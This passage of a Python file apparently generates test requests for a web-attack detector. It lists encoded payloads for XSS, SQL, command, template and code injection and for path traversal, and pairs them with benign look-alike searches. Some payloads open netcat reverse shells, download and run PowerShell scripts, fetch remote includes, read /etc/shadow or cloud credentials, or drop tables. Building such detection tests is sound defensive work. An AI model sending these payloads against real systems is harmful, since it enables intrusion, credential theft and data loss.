# (tmui). (A 'u' spelled "%u" is taken for an IIS escape and kept by
# normalization, so "invokefunction" so spelled is not joined: left out.)
def e_percentage(p):  # sqlmap tamper/percentage.py: "%S%E%L%E%C%T"
    return "".join("%" + c if c.isalpha() else c for c in p)


EXPLOIT_R4_PCT = [
    ("/console/css/%252e%252e%252f", "console.portal", ""),
    ("/console/", "console.portal", "?_nfpb=true&_pageLabel=HomePage1"),
    ("/", "wls-wsat", "/CoordinatorPortType"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/", "eval-stdin.php", ""),
    ("", "/api/jsonws/invoke", ""),
    ("/tmui/login.jsp/..;/tmui/locallb/workspace/", "fileRead.jsp", "?fileName=/etc/passwd"),
]


def round4():
    cmdi = []
    for p in CMDI_R4_AMP:
        for sp in rnd4.sample(["+", "%20"], 2):
            cmdi.append("%s?%s=%s%s" % (rnd4.choice(ENDPOINTS), rnd4.choice(["ip", "host", "addr", "target"]),
                                        p.replace(" ", sp).replace("|", "%7C"),
                                        rnd4.choice(["", "&submit=Submit", "&page=2"])))
    cmdi.append("/\tREF:http://router.example/ping.cgi?ip=127.0.0.1&&id")
    for ua in UA_CMDI_R4:
        cmdi.append("%s\tUA:%s" % (rnd4.choice(ENDPOINTS), ua))
    exploit = []
    for pre, word, post in EXPLOIT_R4_PCT:
        exploit.append(pre + e_percentage(word) + post)
    xss = []
    for p in XSS_R4_AMP:
        xss.append("%s?%s=%s" % (rnd4.choice(ENDPOINTS), rnd4.choice(["q", "name", "comment"]),
                                 p.replace(" ", "+")))
    return cmdi, xss, exploit


# ---- fifth round (issue 21, h29): classes a second held-out set (Debian's
# wapiti payload files) showed missing, written from the grammar of each
# language. Gap 1: a value written into an UNQUOTED attribute breaks out
# with a blank or '/' (HTML's attribute separators) and sets an event
# handler: no quote, no tag. Gap 2: a statement break that comments out
# the rest of the line (PHP's and JavaScript's "//" and "#"): the value
# leaves its string, calls something, ends the statement. Gap 3: the
# body of a data: URL, base64, handed to include(). Gap 4: NUL bytes
# inside dot segments and before an absolute path (a decoder that drops
# them, a C string that stops at them). Benign twins: developers'
# searches for handlers and code, recipes, images and text as data: URLs,
# a NUL with no path.
rnd5 = random.Random(2026120729)

XSS_R5 = [
    "x onmouseenter=alert(document.domain)", "foo autofocus onfocusin=confirm`1`",
    "a tabindex=1 onkeyup=(prompt)(1)", "v/onpointerover=top['al'+'ert'](1)",
    "1 style=animation-name:spin onanimationstart=alert(1)", "zz accesskey=x onclick=self[`print`]()",
    "q ontransitionend=eval(atob('YWxlcnQoMSk='))", "b draggable=true ondragstart=import('//203.0.113.7/x.js')",
    "k\tonwheel=alert(1)", "n contenteditable onbeforeinput=(confirm)`2`",
]

CODE_R5 = [
    "';var_dump(getenv());//", "\";print_r(scandir('.'));#", "1;die(sha1(7));//", "abc';usleep(9000000);//",
    "';sleep(5);#", "x\";throw new Error(String(9*9));//", "') ;file_get_contents('/etc/hostname');//",
    "\";while(true){}if(1)(1);//", "7;highlight_file(__FILE__);#",
]

DATA_R5 = [  # (prefix, body): data: URLs whose base64 body is code
    ("data:;base64,", "<?php passthru($_GET['c']); ?>"),
    ("data://text/plain;base64,", "<?php system('uname -a');?>"),
    ("data:text/plain;charset=utf-8;base64,", "<?= `id` ?>"),
    ("data:application/x-php;base64,", "<?php echo file_get_contents('/etc/passwd'); ?>"),
]

TRAV_R5 = [
    "..%00/..%00/..%00/windows/win.ini", "%00../../../etc/group", ".%00.%5c.%00.%5c.%00.%5cboot.ini",
    "%00/proc/self/environ", ".%00./.%00./.%00./etc/issue%00", "%00%00/etc/shadow",
]

BENIGN_R5 = [
    "/search?q=window+onload%3Dinit()", "/search?q=body+onload=startClock()+(deprecated)", "/recipes?q=red+onions%3D(2+cups)",
    "/search?q=turn+on+sale%3Dyes", "/search?q=button+onclick=submitForm(this)",
    "/forum/search.php?keywords=how+to+use+onchange%3Dupdate()+in+a+select", "/search?q=add-ons+install%3D(beta)",
    "/search?q=img+onerror%3Dthis.src%3D%27fallback.png%27", "/search?q=what+does+exit();//+mean",
    "/search?q=return+f(x);//", "/code?snippet=main();//", "/search?q=it%27s+done();%23",
    "/search?q=printf(%22hi%22);+//+comment+style", "/search?q=don%27t+call+exit()%3B",
    "/api/v1/avatar?img=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg%3D%3D",
    "/api/v1/import?body=data:text/csv;base64," + q(b64("name,qty\nwidget,3\n")),
    "/api/v1/notes?body=data%3Aapplication%2Fjson%3Bbase64%2C" + q(b64('{"a":1,"b":[2,3]}')),
    "/track?id=ab%00cd", "/files/a.b%00c", "/search?q=version+2.0%00", "/search?q=data:+base64+decode",
]


def round5():
    xss = r2_lines(XSS_R5, [e_plain, e_pct, e_double, e_form], ["q", "name", "title", "cls"])
    code = []
    for p in CODE_R5:
        for e in rnd5.sample([e_pct, e_double, e_bar, e_form], 2):
            code.append("%s?%s=%s" % (rnd5.choice(ENDPOINTS), rnd5.choice(["id", "q", "name", "sort"]), e(p)))
    for pre, body in DATA_R5:
        for e in (lambda x: x, q):
            code.append("%s?%s=%s" % (rnd5.choice(ENDPOINTS), rnd5.choice(["page", "file", "inc", "tpl"]),
                                      e(pre) + q(b64(body))))
    trav = ["%s?%s=%s" % (rnd5.choice(ENDPOINTS), rnd5.choice(["file", "page", "doc"]), p) for p in TRAV_R5]
    trav += ["/static/..%00/..%00/..%00/etc/passwd"]
    return xss, code, trav


# ---- sixth round (issue 21, h31): a reviewer's findings. A handler set
# outside a tag: its value ends where HTML ends it (a blank, or the
# matching quote), and only alert/prompt/confirm/eval (not after
# "return") or a call through a group or a member count there; a long
# value of repeated handlers must cost one pass. Benign twins: the
# developers' searches for onclick/onload that fired before.
rnd6 = random.Random(2026120731)

XSS_R6 = [
    "x onclick=alert(1) y", "a onmouseover=\"alert(document.cookie)\" b", "b onfocus='(confirm)(1)' autofocus",
    "c onload=eval(name)", "d onerror=prompt`1`", "e onblur=window[`con`+`firm`](1)",
    "f onkeydown=x=1;alert(2)", "g onclick=\"if(1)confirm(1)\"", "h onpointerdown=(alert)(document.cookie)",
    "i onmouseleave=((x)=>(prompt)(x))(1)",
]

BENIGN_R6 = [
    "/search?q=button+onclick=return+confirm(are+you+sure)",
    "/search?q=html+button+onclick%3D%22return+confirm(%27Are+you+sure%3F%27)%22",
    "/search?q=body+onload=window.print()", "/search?q=javascript+onclick=print()",
    "/search?q=html+onclick=fetch(url)", "/search?q=jquery+onclick=function()(event)",
    "/search?q=input+onchange=return+validate(this)", "/search?q=form+onsubmit%3D%22return+confirm(%27Delete%3F%27)%22",
    "/search?q=a+onclick=window.open(url)+return+false", "/search?q=button+onclick=location.reload()",
    "/search?q=onclick=history.back()+not+working", "/search?q=body+onload=setTimeout(init,100)",
    "/search?q=onclick=event.preventDefault()", "/search?q=onclick=myFunction()(not+working)",
    "/forum/search.php?keywords=onsubmit%3D%22return+false%22+vs+preventDefault&terms=all",
    "/search?q=" + "+onload=x" * 200, "/search?q=" + "%27+onload=x" * 200,
]


# A statement break is code when one call in it is not a browser's
# dialog: a name that only ends in "alert" is not one.
CODE_R6 = [
    "';exit(md5(1));xalert(1);//", "\";die(sha1(2));myconfirm(1);#", "';alert(1);system('id');//",
    "1;print_r(1);noprompt(2);//",
]


# An image as a data: URL is judged for script only: the svg element
# it is made of is a picture. (With its '+' sent as %2B the URL itself
# still fires xss/data-uri, a rule of its own: not judged here.)
SVG_IMAGES = [
    '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><circle cx="4" cy="4" r="4"/></svg>',
    '<svg viewBox="0 0 10 10"><rect width="10" height="10" fill="#c00"/><path d="M0 0L10 10"/></svg>',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><g><text x="1" y="9">A</text></g></svg>',
]
SVG_ATTACKS = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    '<svg><circle r="4"/><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><circle r="9"/></a></svg>',
]
BENIGN_R6 += ["/api/v1/avatar?img=data:image/svg+xml;base64," + q(b64(p)) for p in SVG_IMAGES]


def round6():
    xss = r2_lines(XSS_R6, [e_plain, e_pct, e_double, e_form], ["q", "name", "title", "cls"])
    xss += ["/api/v1/avatar?img=data:image/svg+xml;base64," + q(b64(p)) for p in SVG_ATTACKS]
    code = []
    for p in CODE_R6:
        for e in rnd6.sample([e_pct, e_double, e_bar, e_form], 2):
            code.append("%s?%s=%s" % (rnd6.choice(ENDPOINTS), rnd6.choice(["id", "q", "name"]), e(p)))
    return xss, code


# ---- seventh round (issue 21, the OWASP CRS's regression tests as a
# third held-out set, README): the classes it showed missing, written
# from each language's grammar, not taken from those tests. cmd.exe's FOR
# and IF statements; words split by what the shell removes (quotes,
# empty substitutions, special parameters) or spelled with wildcards or
# brace expansion; netcat handing out a shell; PowerShell's download
# cmdlets; SMTP verbs on a line of their own; commands and system files
# in a Referer or User-Agent. XSS: namespaced script elements, UTF-7,
# XBL and HTC bindings, tagged templates, a sink call as the whole value,
# markup in a Referer. SQL: SQLite's GLOB, PostgreSQL's casts and large
# objects, MongoDB operators, a statement closed by a comment. Code: PHP
# called through variables, strings and groups, Smarty's {php}, Node.js's
# loader and prototype pollution, Perl's @{[ ]}, ASP/ERB blocks, TeX's
# file primitives. Files: system files reached through a path prefix
# (Vite's /@fs/), logs left in the web root, a URL handed to an include
# key of a PHP array. Benign twins: contractions, lists in braces, prose
# with "if", "for ... in", casts of other languages, and calls a search
# box holds.
rnd7 = random.Random(2026120707)

CMDI_R7 = [
    'for /f "delims=" %i in (\'whoami\') do echo %i', "FOR %x IN (a b c) DO del %x",
    "for /l %n in (1,1,9) do ping -n 1 10.0.0.%n", "&for /d %d in (c:\\*) do dir %d",
    "if exist c:\\windows\\win.ini type c:\\windows\\win.ini", "IF NOT DEFINED x SET x=1",
    "if %errorlevel% neq 0 exit /b 1", 'if /i "%1"=="go" goto run', "IF ERRORLEVEL 1 ECHO failed",
    'w"h"oami', "'u'name -a", "c'a't /etc/hosts", 'ifc""onfig', "who``ami", "una$()me -a",
    ";c$@a$!t /e$?tc/pa$-sswd", ";who$_ami", ";/b??/c?t /e??/p?sswd", "|/???/b??h -c id",
    "/bi*/un?me -a", "w{ho,}ami", "{,whoami}", "{un,}ame -a",
    ";nc 203.0.113.9 4444 -e /bin/bash", "|ncat 198.51.100.7 9001 -e cmd.exe", "&& nc -lvnp 8080 -e sh",
    ";iwr -uri http://203.0.113.5/a.ps1 -outfile a.ps1",
    "|iex (New-Object Net.WebClient).DownloadString('http://203.0.113.5/y')",
    "Invoke-Expression $env:payload", "x\r\nMAIL FROM:<a@example.com>", "y\nRCPT TO:<victim@example.org>",
    "z\r\nHELO mail.example.net",
]
CMDI_R7_HEADERS = ["REF:cat /etc/shadow", "REF:x.example.com;id", "REF:/bin/sh -c id",
                   "UA:ping -c 3 198.51.100.1;uname -a", "REF:www.example.com;c$!at /et$?c/hosts"]
TRAV_R7_HEADERS = ["UA:/etc/shadow", "REF:/proc/self/environ", "UA:../../../../etc/passwd",
                   "/@fs/etc/passwd", "/@fs/etc/shadow?import", "/static/proc/self/environ",
                   "/get?file=/var/spool/cron/crontabs/root", "/x?page=/var/mail/root",
                   "/y?f=/var/lib/mysql/mysql/user.MYD", "/z?inc=/private/etc/master.passwd",
                   "/w?doc=/dev/shm/sess_1", "/v?f=/usr/pkg/etc/httpd/httpd.conf"]
SENS_R7 = ["/wp-content/debug.log", "/app/logs/errors.log", "/storage/logs/error.log", "/cgi-bin/error_log"]
RFI_R7 = ["/plugins/spam.php?_CONF[path]=https://203.0.113.4/x", "/index.php?cfg[include]=http://198.51.100.2/a",
          "/modules/m.php?settings[template]=ftp://203.0.113.9/t"]

XSS_R7 = [
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(7)</h:script>', "<svg:script>prompt(2)</svg:script>",
    "<ns0:iframe src=javascript:alert(3)>", "+ADw-img src=x onerror=alert(1)+AD4-",
    "+ADw-/title+AD4-+ADw-script+AD4-alert(9)+ADw-/script+AD4-",
    '<div style="-moz-binding:url(//evil.example/x.xml#y)">', "x{behavior: url(#default#time2)}",
    "[].map.call`${alert}7`", "Reflect.apply.call`${eval}`", "alert(document.domain)", "prompt(8)",
    "confirm(document.cookie)", "setTimeout('alert(1)',0)", "eval(atob('YWxlcnQoMSk='))",
    '<?import namespace="t" implementation="#default#time2">',
]
XSS_R7_HEADERS = ["REF:https://ads.example.net/<script>alert(5)</script>",
                  'REF:http://x.example/"><svg onload=alert(1)>']

SQLI_R7 = [
    "x' or name glob '*'--", "') or id glob 1--", "1 and (select current_database())::int=1", "x'::int",
    "(select string_agg(usename,','))::integer", "lo_get(31337)", "1;select lo_export(1,'/tmp/x')",
    "DROP TABLE orders;--", "delete from sessions;#", "truncate audit_log;-- -",
]
SQLI_R7_RAW = ["/login?user[$ne]=1&pass[$ne]=1", "/api/login?password[$gt]=", "/login?username[$regex]=^adm",
               "/api/find?filter=%7B%22%24where%22%3A%22sleep(100)%22%7D", "/api/v1/account?email[$ne]=x"]

CODE_R7 = [
    "(exec)('ls')", "['sys'.'tem'][0]('id')", "$x='pass'.'thru';$x('id');", "$_[0]($_[1])", "${__}(7)",
    "(/**/passthru)(id)", "\"shell_exec\"('id')", "{php}system('id');{/php}", "<? php system(\"id\"); ?>",
    "<?passthru('ls');", "require('child_process').execSync('id')",
    "this.constructor.constructor('return process')()", "process.mainModule.require('fs')",
    "@{[ `id` ]}", '@{[system "uname -a"]}', '<% exec("cmd") %>', "\\input{/etc/hosts}",
    "\\immediate\\write18{id}", "\\openin5=/etc/passwd",
]
CODE_R7_RAW = ["/api/user?__proto__[isAdmin]=true", "/x?constructor[prototype][polluted]=1",
               "/y?__proto__.toString=1", "/z?a[constructor][prototype][x]=1"]
EXPLOIT_R7 = ["/?x=" + q("${:-x$}{jndi:ldap://h.example/a}"), "UA:" + "${::-x$}{jndi:rmi://h.example/b}",
              "/cgi-bin/status?x=" + q("() {"), "UA:() {"]

BENIGN_R7 = [
    "/search?q=I%27d+like+to+know", "/search?q=they%27d+say+so", "/search?q=O%27Keefe%27s+paintings",
    "/search?q=we%27d+id+it", "/api/items?fields={id,name}", "/search?q={red,green,blue}",
    "/search?q=sizes+{s,m,l}", "/api/v1/users?include={id,email,dir}",
    "/search?q=for+each+item+in+(cart)+do+checkout", "/search?q=what+to+do+if+not+defined",
    "/search?q=fix+crash+if+x%3D%3DNULL+return", "/search?q=if+a%3D%3Db+then", "/search?q=if+exist+meaning",
    "/search?q=cast+to+int+in+C%2B%2B+std::string", "/search?q=Foo::Text", "/search?q=price+%24x+(approx)",
    "/search?q=%24PATH+(unix)", "/search?q=GC_log_printf(%22%22)+(not+needed)", "/search?q=nc+-e+option+removed",
    "/search?q=constructor+function+in+javascript", "/search?q=child+process+node+tutorial",
    "/search?q=confirm(order)+email", "/search?q=alert(s)+settings", "/search?q=prompt(engineering)+course",
    "/search?q=%22%23include+%3Cstdio.h%3E%22", "/search?q=%27%23define+DEBUG%27+flag",
    "/search?q=see+(%60%232706+%3Chttps%3A%2F%2Fexample.org%2Fpull%2F2706%3E%60_)",
    "/search?q=mail+from:+support", "/search?q=helo+kitty", "/search?q=drop+table+lamp",
    "/search?q=update+firmware;", "/search?q=behavior+url+of+links", "/search?q=%24_+in+perl",
    "/search?q=%60%60NL%60%60+token", "/search?q=replace+%60%60make+touch%60%60+with",
    "/search?q=the+%60%60test%60%60+command", "/search?q=%40%7Bname%7D+placeholder",
    "/search?q=%5Cinput+latex", "/search?q=prototype+design", "/search?q=__proto__+vs+prototype",
    "/search?q=%2F%3F%3F%3F%2F+pattern", "/search?q=while(true)+loop", "/search?q=c%27mon+guys",
    "/blog/debug-logging-tips", "/catalog/error-log-book", "/api?filter[url]=https://example.com/page",
    "/docs/etc-passwd-format", "/search?q=/etc/passwd+format", "/a?links[home]=https://example.org/",
    "/api/users?age[$gt]=18", "/api/articles?filters[title][$eq]=news", "/api/items?price[$gt]=0",
    "/api/v1/items?fields={id,name,}", "/search?q=%5Cw%7B2,%7D+regex", "/search?q=hi%0Amail+from:+bob+bounced",
    "/search?q=files+in+/usr/bin/*", "/search?q=nasdaq+%26+iex", "/search?q=i%27d+do+anything",
    "/search?q=(i%27d+say+yes)", "/search?q=%5Bsystem+requirements%5D(/docs)", "/search?q=%24f(x)%24+is+continuous",
    "/search?q=hotels+for+me+in+(london)+do+you+know", "/search?q=if+defined+benefit+(for+example)+plans",
    "/search?q=child_process+exec+example", "/search?q=object+constructor.prototype", "/search?q=alert()+not+working",
    "/img?image[src]=https://cdn.example.com/a.png", "/blog?post[body]=https://example.org/x",
    "/search?q=/var/lib/docker+is+full", "/search?q=htaccess+redirect+rules", "/blog/var-lib-explained",
]


def round7():
    cmdi = r2_lines(CMDI_R7, [e_plain, e_pct, e_double, e_form], ["ip", "host", "cmd", "q"])
    cmdi += CMDI_R7_HEADERS
    xss = r2_lines(XSS_R7, [e_plain, e_pct, e_double, e_form], ["q", "name", "title", "cb"])
    xss += XSS_R7_HEADERS
    sqli = r2_lines(SQLI_R7, [e_plain, e_pct, e_double, e_form], ["id", "q", "sort", "user"])
    sqli += SQLI_R7_RAW
    code = r2_lines(CODE_R7, [e_plain, e_pct, e_double, e_form], ["q", "x", "tpl", "eval"])
    code += CODE_R7_RAW
    return cmdi, xss, sqli, code, TRAV_R7_HEADERS, EXPLOIT_R7, SENS_R7, RFI_R7


# ---- eighth round (issue 21, SecLists' and fuzzdb's fuzzing lists as a
# fourth held-out set, README): the classes they showed missing, written
# from each grammar rather than taken from those lists. Files: an
# absolute path under a system top directory (/usr, /var, /sbin...) or a
# Windows drive's system folders, a dotfile of the home directory or the
# root, "..2f" (a double decoding that lost its '%'), a system file named
# without its leading slash, applications' config files. Commands: a CR
# as a separator, a redirection or caret before the command, cmd.exe's
# %variables% as paths, a command stored in a variable and run, command
# lines with an option (ls -l, ps -ef, ping -n), net's subcommands. SQL:
# both sides of a comparison in parentheses, a string left open for the
# query to close, IN and BETWEEN, N'...' strings, a leading OR ended by a
# comment, DECLARE/EXEC of a variable, MSSQL's statements without ';',
# keywords split by empty comments, MongoDB's operators as the whole
# value. XSS: a sink called inside a tag however the attribute is spelled,
# a sink aliased or handed to a method, a sink's name as concatenated
# strings in brackets, JavaScript escapes in a name. Templates: calls with
# a string argument, statement tags. Benign twins: paths developers search
# for, drives alone, routes, prose with "or", "between", "declare", and
# the macros ad platforms leave in URLs.
TRAV_R8 = [
    "/usr/sbin/exim4", "/var/cache/nginx/proxy_temp", "/var/tmp/sess_5f2a", "/sbin/ifconfig",
    "/var/backups/shadow.bak", "/var/db/pkg/local", "/root/.my.cnf",
    "c:/windows/system.ini", "C:\\Program Files\\Tomcat\\conf\\server.xml",
    "d:\\inetpub\\logs\\u_ex.log", "c:/users/admin/ntuser.dat", "C:\\xampp\\htdocs\\index.php",
    "/c:/windows/repair/system", "c:\\wamp64\\bin\\apache\\httpd.conf", "d:/mysql/data/ibdata1",
    "~/.aws/credentials", "~/.gnupg/pubring.kbx", "/.pgpass", "/.git-credentials", "site/.rhosts",
    "backup/.netrc", "..2f..2f..2fetc2fshadow", "..2f..2f..2fwindows2fwin.ini",
    "etc/shadow", "proc/self/cmdline", "../config.inc.php", "/app/config.inc.php", "..\\web.config",
    "C:/Program Files/PostgreSQL/15/data/pg_hba.conf", "c:\\users\\administrator\\ntuser.dat",
]
CMDI_R8 = [
    "\rcat /etc/group", "\runame -a", "x\rid", "<whoami", "<ls -la /tmp",
    "type %windir%\\system32\\drivers\\etc\\hosts", "; type %systemdrive%\\boot.ini",
    "&& dir %userprofile%\\desktop", "X=$'uname';$X", 'run="id";$run', ";p=$'whoami';${p}",
    "net view \\\\fileserver", "net view /domain", "ls -lah /var/www", "ls -al", "ps -ef", "ps -aux",
    "ping -n 3 203.0.113.7", "ping -c 2 198.51.100.4",
    "for %q in (a b) do zap", "FOR /D %%k IN (c:\\*) DO rd", "ping`` 198.51.100.2", "cat$() /etc/hosts",
    "dd if=/etc/shadow of=/tmp/s", "x\r\nretr 7", "y\r\na17 select inbox",
    "\r\napop bob 0123456789abcdef0123456789abcdef", ";regedit /e out.reg HKLM", "|dmesg",
]
SQLI_R8 = [
    "x') or ('y')=('y", "1)) or ((2))=((2", "member' or 'q", "' or 'z' in ('z')",
    " or 'k' between 'a' and 'z'", " or 3 --", " or false#", " or 1 like 1 /*", "hello or b=b--",
    ") or (c=c", "declare @cmd nvarchar(99) select @cmd = 0x41 exec(@cmd)", "exec(@q)",
    "' exec master..sp_who --", "' insert into audit values (1) --", "' delete from logs where 1 --",
    "uni/**/on sel/**/ect null,null--", "' or n'x'=n'x'--", " or 'ab' = 'a'+'b'",
    "1 and (select top 1 col from t)=1",
]
SQLI_R8_RAW = ["/api/login?user=%7B%22%24ne%22%3A+null%7D", "/login?pass=%7B+%24gt%3A+%27%27+%7D",
               "/api/q?filter=%24where%3A+%27sleep(5000)%27"]
XSS_R8 = [
    "<img src=x:confirm(2)>", "<a href=[x]java[y]script:prompt(3)>X</a>", "<video onloadeddata!@#=alert(4)>",
    "fn=prompt;fn(6)", "[7].map(confirm)", "(prompt)(8)", "window['pro'+'mpt'](9)", 'self["confirm"](10)',
    "${prompt(11)}", "-confirm(12)}//\\", "';onerror=prompt;throw 13//", "\\u0061lert(14)", "pr\\x6fmpt(15)",
    "\\143onfirm(16)",
]
CODE_R8 = [
    "{{ open('/etc/hosts').read() }}", "{{ include('c:/boot.ini') }}", "{% import os %}{{ os.popen('id') }}",
    "{%set x=7*7%}", "{% for n in [4,5] %}{{n}}{% endfor %}", "| phpinfo()", "&& phpinfo()",
    "${self.module.cache.util.os.popen('uname').read()}", "{{ ''.class.mro()[1].subclasses() }}",
    "{{['whoami']|map('system')|join}}", "{% for a, b in config.iteritems() %}{{a}}{% endfor %}",
]
BENIGN_R8 = [
    "/search?q=d%3A%2Fphotos%2F2024", "/search?q=%2Fusr%2Finclude%2Fstdio.h", "/search?q=%2Fusr%2Fsrc%2Flinux",
    "/search?q=/usr/include/X11/Xlib.h", "/?next=/home/orders", "/?next=/dev/portal", "/login?return=/lib/docs",
    "/search?q=c%3A%5Cusers", "/search?q=c%3A%2Fprogram+files", "/search?q=%2F.well-known%2Fsecurity.txt",
    "/search?q=~%2Fdocuments", "/api?path=/opt/app", "/search?q=net+profit+view", "/search?q=ls+-+a+salon",
    "/search?q=type+%25appdata%25+in+the+run+box", "/search?q=ping+-pong+table", "/search?q=ps+-+photo",
    "/search?q=rock+%27n%27+roll", "/search?q=dogs%27+or+%27cats%27", "/search?q=between+1+and+3+years",
    "/search?q=or+so", "/search?q=declare+a+variable+in+sql", "/search?q=exec+summary",
    "/search?q=this+or+that+--+opinion", "/search?q=alert+(severity)", "/search?q=level%3Dalert%3B+email",
    "/search?q=%5B1%5D.find(x)", "/search?q=(alert)+box", "/search?q=onerror%3Dhandler%3B",
    "/search?q=%24%7Bname%7D+template", "/search?q=window%5B%27title%27%5D", "/search?q=%5Cu0041+unicode",
    "/track?c={{campaign.name}}&ad={{ad.id}}", "/search?q=%24gt+operator",
    "/api/items?filter=%7B%22price%22%3A%7B%22%24gt%22%3A10%7D%7D", "/search?q=100%25+cotton+%7B%7D",
    "/search?q=%22%26%26%22+and+%22%7C%7C%22+in+bash", "/search?q=uni+on+sel+ect",
    # a reviewer's round
    "/search?q=24%22+or+27%22+monitor", "/search?q=10%22+and+12%22+pizza", "/search?q=credit+union+select+top+10+rates",
    "/search?q=and+more+(2019)+%231", "/search?q=x+or+y%3Dy", "/search?q=5+or+x+%3D+y+%2B+1",
    "/search?q=home+%7C+print+(pdf)", "/search?q=tom+%26+jerry+%7C+echo+(2019)",
    "/search?q=%7B%7B+url_for(%27static%27%2C+filename%3D%27style.css%27)+%7D%7D", "/search?q=%7B%7B+_(%27Hello%27)+%7D%7D",
    "/search?q=%7B%25+load+static+%25%7D", "/search?q=%7B%25+if+product.available+%25%7D",
    "/search?q=%7B%25+include+%27header.html%27+%25%7D", "/login?origurl=/bin/view/Main/WebHome",
    "/?next=/volumes/12/issue-3", "/?next=/private/dashboard", "/search?q=c%3A%5Cusers%5Cjohn%5Cdesktop",
    "/search?q=c%3A%5Cprogram+files%5Cjava%5Cjdk-17%5Cbin", "/search?q=~%2F.bashrc", "/search?q=~%2F.ssh%2Fconfig",
    "/?redirect=/admin/config.php", "/?next=/settings/user.profile", "/?url=/auth.logout",
    "/search?q=%24total%3D0%3B+%24total+%2B%3D+5", "/search?q=%24i%3D0%3B%24i", "/search?q=printf+%25s%25d",
    "/search?q=if+(x%3Cy)+alert(%27hi%27)+else", "/search?q=for(i%3D0%3Bi%3Cn%3Bi%2B%2B)+eval(code)",
    "/search?q=console.log(alert)", "/search?q=notify%3Demail%2Conline%3Dalert%2Coffline%3Dignore",
    "/api/items?filter=%7B%22%24in%22%3A%5B1%2C2%5D%7D", "/api/users?filter=%7B%22%24regex%22%3A%22%5Ejo%22%7D",
    "/search?q=%24where%3A+clause+mongodb", "/account/order_history?page=2", "/search?q=internet+usage+at+home",
    "/search?q=%7B%7B+items%7Cfilter(%27active%27)+%7D%7D", "/search?q=os.system+python+example",
    "/search?q=save+for+50%25+in+(store)+do+visit", "/search?q=use+%60%60ls%60%60+to+list",
    "/search?q=dd+if+you+can", "/search?q=hello%60%60+world", "/search?q=shopping%0D%0Alist+of+items",
    "/search?q=notes%0D%0Atop+10+tips", "/search?q=a1+select+all", "/search?q=regedit+tutorial",
]


def round8():
    encoders = [e_plain, e_pct, e_double, e_form]
    trav = r2_lines(TRAV_R8, encoders, ["file", "path", "doc", "q"])
    cmdi = r2_lines(CMDI_R8, encoders, ["cmd", "c", "exec", "q"])
    sqli = r2_lines(SQLI_R8, encoders, ["id", "q", "user", "sort"]) + SQLI_R8_RAW
    xss = r2_lines(XSS_R8, encoders, ["q", "name", "cb", "title"])
    code = r2_lines(CODE_R8, encoders, ["q", "tpl", "name", "x"])
    return trav, cmdi, sqli, xss, code


# ---- ninth round (issue 21, PayloadsAllTheThings' Intruder lists as a
# fifth held-out set, README): what its enumeration and error-based lists
# showed missing, written from SQL's grammar. A value that is a statement
# of its own (SELECT of a function or of a niladic name, CREATE TABLE with
# typed columns, INSERT ... VALUES, PostgreSQL's COPY, MSSQL's BACKUP, a
# bare ORDER BY n), MSSQL's IF (condition) before a statement, and
# sqlmap's boundary of a false comparison followed by AND; after a quote,
# a statement without ';' (INSERT ... VALUES, GRANT ... TO, CREATE USER
# ... IDENTIFIED); a leading OR whose call computes ("isnull(1/0)"); from
# libinjection's test data (a sixth set): a quote closed and reopened
# around operators (MySQL's implicit conversions), a comparison of
# literal expressions after AND/OR, arithmetic on string functions after
# a number, UNION right after the value ("-1 union") or before MySQL's
# versioned SELECT, "(select ... from table limit", a number glued to a
# keyword ("1.union", "1e0union"), a select list of literals, CHAR()
# calls joined, MSSQL's IF/WHILE/BEGIN before a statement, ORDER BY IF(),
# MATCH ... AGAINST, IF()/IIF() of a literal comparison, a compact CASE
# expression, a number before a bare comment ("1--"), UNION (SELECT; its false
# positives as twins (measures in feet and inches, a
# '#' number sign, phrase searches in double quotes). XSS: a script
# statement ended by ';' after a number then a sink's call that ends the
# value or comments out the line; a whole <a href> whose host is
# disguised (a number, user info, no scheme), as filter-evasion cheat
# sheets write it; UTF-7 markup with its '+' escaped; from html5sec.org
# (libinjection's copy): a style attribute that loads (url(), expression,
# @import), IE's data binding and XML Events' attributes, an element in
# SVG's namespace, an XSL stylesheet instruction. Files: an
# application's configuration right after one "../", servers' and
# databases' configuration, data and logs by absolute path, a system
# tree inside a mounted root, base64 of "etc/" and "/proc/", "2f" for
# every '/' once "..2f" shows the '%' lost. Commands: a shell assignment
# the query's '&' cut in two, its value a quoted command run through the
# parameter's name ("&c=$'id';$c"). Benign twins: the same words
# in a shopper's order, links to a page's own documents, file names
# people search for.
SQLI_R9 = [
    "select version();", "select current_database()", "select session_user;",
    "select current_setting('data_directory');", "select user() from dual",
    "create table t1 (line text);", "create table x (a varchar(20), b int);",
    "insert into t (a, b) values (1, 2);", "insert into log values ('x');",
    "copy t from '/etc/hosts';", "copy t from program 'id'", " order by 7", "order by 3,2--",
    "if(4=5) select 1 else drop function f--",
    ";if (ascii(substring(db_name(),1,1))>64) waitfor delay '0:0:5'--",
    " and 1234=5678 and ('a'='a", " or 8=9 or (2>1",
    "' insert into t(a, b) values(char(0x41), 1)", "' grant dba to scott;--", "'create user bob identified by s3cret",
    " or isnull(1/0) /*", " and ascii(substring(user(),1,1))>64--",
    "x' ^ 'y", "ab' DIV 'c", "q'|2-1='0", "zz' or col<>'1", "k'!=~'1", "spring and 7=2",
    "(word)*1 or 3=4", "pi() and floor(pi())=3", "-5-(1) or 2 = 2", "12 + ascii(substr(pass,1,1))-97",
    "7*(1/length(substr(pass,1,1)))", "-7 union", "3 union select", "@v union select", "9/**/union/*!12345select*/name",
    "(select pass/1 from users limit 0,1)", "2.union select 1", "7e0union select 2", "5funion select null",
    "select 3,3,3", "select 'a','b',1", "select -cos(1),2 from t where x",
    "4' or '4' xor '1", "2'*col is null or '1", "chr(97)||chr(98)", "char(65)+char(66)", "zz' sounds like '1",
    "';if 2=2 drop table t--", "'; while 1=1 shutdown--", "5;drop accounts --", "x'; select [pass] from users",
    "3 order by ifnull(null,id)", "and isnull(1/0)", "' or match pass against ('+a*' in boolean mode)--",
    "bar); if((12=34),select 12,drop function x);#", "abc,iif(11=22,abc,1/0)", "(case when 11=22 then 1 else null end)",
